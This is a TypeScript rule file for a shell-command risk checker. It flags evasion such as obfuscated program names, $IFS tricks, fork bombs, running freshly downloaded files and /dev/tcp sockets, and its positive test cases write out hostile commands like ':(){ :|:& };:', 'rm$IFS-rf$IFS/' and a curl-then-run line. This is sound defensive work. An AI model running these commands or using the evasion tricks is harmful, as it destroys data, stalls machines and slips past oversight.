import { isShellVariable } from '../nested.ts';
import { normalise, placeOf } from '../places.ts';
import { SHELLS } from '../wrappers.ts';
import { all, any, flag, not, operand } from './conditions.ts';
import type { Rule } from './rule.ts';

const RUNNERS = /^(python|perl|ruby|node|php|lua|source|\.)$/;

export const EVASION: readonly Rule[] = [
  {
    id: 'runs-what-it-wrote',
    programs: '',
    when: (c) =>
      [c.name, SHELLS.has(c.program) || RUNNERS.test(c.program) ? c.operands[0] : null].find(
        (a) => a && c.written.has(normalise(a.text)),
      ),
    dimension: 'blast_radius',
    points: 5,
    message: 'runs a file that it has just written',
    opaque: true,
    matches: [
      "echo 'rm a' > x.sh; sh x.sh",
      'curl http://e.com -o a && ./a',
      'echo x > a.py; python3 ./a.py',
    ],
    not_matches: ['sh x.sh', 'echo a > b; sh c', 'echo a > b; cat b'],
  },
  {
    id: 'computed-program',
    programs: '',
    when: (c) => (c.name !== null && (c.program === '' || /^[{}%]+$/.test(c.program)) ? c.name : false),
    dimension: 'write',
    points: 5,
    message: 'another value decides which program runs',
    opaque: true,
    matches: ['$CMD a', '"$(echo rm)" -rf a', '/bin/r? a', `\${a}\${b} c`],
    not_matches: ['X=ls; $X', 'ls $A', 'A=b'],
  },
  {
    id: 'computed-program-on-root',
    programs: '',
    when: (c) =>
      c.name !== null &&
      c.program === '' &&
      c.args.some((a) => /^-[a-zA-Z]*[rRf]/.test(a.text)) &&
      c.operands.find((o) => placeOf(o.text) === 'root'),
    dimension: 'blast_radius',
    points: 6,
    message: 'lets another value decide what happens to the disk or a home',
    matches: ['"$CMD" -rf /', '$X -R 777 ~'],
    not_matches: ['$CMD -rf a', 'rm -rf a', '$EDITOR /etc/hosts'],
  },
  {
    id: 'shell-by-variable',
    programs: '',
    when: (c) =>
      c.name !== null &&
      isShellVariable(c.name.text) &&
      c.args.some((a) => /^-[a-z]*c$/.test(a.text)) &&
      c.name,
    dimension: 'write',
    points: 7,
    message: 'has a shell that a variable names run commands',
    opaque: true,
    matches: [`\${SHELL} -c 'rm a'`, '$BASH -c ls'],
    not_matches: ['sh -c ls', 'echo $SHELL', '$SHELL a.sh'],
  },
  {
    id: 'spelled-program',
    programs: '',
    when: (c) =>
      c.name?.substitution &&
      /^(\$\(|`)\s*(echo|printf|base64|base32|xxd|rev|tr|openssl|cat\s*<<)/.test(c.name.text)
        ? c.name
        : false,
    dimension: 'write',
    points: 8,
    message: 'spells out or unpacks the name of the program that runs',
    opaque: true,
    matches: ['$(echo rm) -rf a', "$(printf '\\x72m') a", '`echo cm0= | base64 -d` a'],
    not_matches: ['$(which python3) a.py', '"$(npm bin)/eslint" .', 'echo $(echo a)'],
  },
  {
    id: 'disguised-words',
    programs: '',
    when: (c) => {
      const { name } = c;
      if (name === null) return false;
      if (name.disguised || name.variables.includes('IFS') || !/^[\x20-\x7e]*$/.test(name.text)) return name;
      if (/[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]/.test(name.text)) return name;
      return c.args.find(
        (a) =>
          /[^\s"']\$\{?IFS\b|\$\{?IFS(\}|\$\d)[^\s"']|[\u202a-\u202e\u2066-\u2069]/.test(a.text) ||
          (a.disguised && /^[-/~.][\w./~-]*$/.test(a.text)),
      );
    },
    dimension: 'write',
    points: 7,
    message: 'is written so that it does not look like what it is',
    opaque: true,
    matches: [
      "r''m -rf a",
      "$'\\x72m' a",
      'cat$IFS/etc/hosts',
      'rm$IFS-rf$IFS/',
      '{rm,-rf,a}',
      'cat a$IFS-b',
    ],
    not_matches: ['"git" status', '\\git status', "echo 'a'b", 'mkdir -p a/{b,c}'],
  },
  {
    id: 'fork-bomb',
    programs: '',
    when: (c) =>
      c.defined &&
      c.inFunction !== null &&
      c.inFunction === c.name?.text &&
      (c.pipe !== null || c.background),
    dimension: 'blast_radius',
    points: 10,
    message: 'starts itself again and again until the machine stands still',
    matches: [':(){ :|:& };:', 'f() { f & f; }; f'],
    not_matches: ['f() { ls; }; f', 'f() { ls & }; f'],
  },
  {
    id: 'runs-in-background',
    programs: '',
    when: (c) =>
      c.depth === 0 &&
      (c.background || c.via.some((v) => /^(nohup|setsid)$/.test(v))) &&
      c.program !== 'sleep',
    dimension: 'write',
    points: 2,
    message: 'keeps running after the command has ended',
    matches: ['make &', 'nohup ./a &'],
    not_matches: ['make', 'sleep 1 &'],
  },
  {
    id: 'endless-loop',
    programs: 'yes',
    when: (c) =>
      c.redirections.some(
        (r) => r.operator.includes('>') && r.target !== null && !/^\/dev\/null$/.test(r.target.text),
      ),
    dimension: 'blast_radius',
    points: 4,
    message: 'writes without end',
    matches: ['yes > a'],
    not_matches: ['yes | apt install a', 'yes > /dev/null'],
  },
  {
    id: 'runs-file',
    programs: '',
    when: (c) =>
      c.name?.literal && /\//.test(c.name.text) && !/^\/(usr\/(local\/)?)?s?bin\//.test(c.name.text)
        ? c.name
        : false,
    dimension: 'write',
    points: 5,
    message: 'runs a file that is not read here',
    opaque: true,
    matches: ['./build.sh', '/tmp/a', '../x', '/opt/x/y a'],
    not_matches: ['/usr/bin/git status', 'ls ./a', '/bin/echo a'],
  },
  {
    id: 'runs-temporary-file',
    programs: '',
    when: any(
      (c) =>
        c.name && /^\/(tmp|var\/tmp|dev\/shm)\/|\/\.\.\.\/|\/\.[^/]+\/[^/]*sh$/.test(c.name.text)
          ? c.name
          : false,
      all((c) => SHELLS.has(c.program), not(flag('-c')), operand(/^\/(tmp|var\/tmp|dev\/shm)\//)),
    ),
    dimension: 'blast_radius',
    points: 5,
    message: 'runs a program from a place that anyone can write to',
    opaque: true,
    matches: ['/tmp/a', 'bash /dev/shm/a'],
    not_matches: ['ls /tmp/a', './a'],
  },
  {
    id: 'sets-trap',
    programs: 'trap',
    when: (c) => c.operands.length > 1,
    dimension: 'write',
    points: 2,
    message: 'has commands run when something happens',
    matches: ["trap 'rm a' EXIT"],
    not_matches: ['trap', 'trap -l'],
  },
  {
    id: 'loads-into-shell',
    programs: 'exec',
    when: (c) =>
      c.redirections.find((r) => r.operator === '<>' || /^\/dev\/(tcp|udp)/.test(r.target?.text ?? '')),
    dimension: 'network',
    points: 6,
    message: 'ties the shell to another channel',
    matches: ['exec 3<>/dev/tcp/e.com/80'],
    not_matches: ['exec 2>&1', 'exec ls'],
  },
];
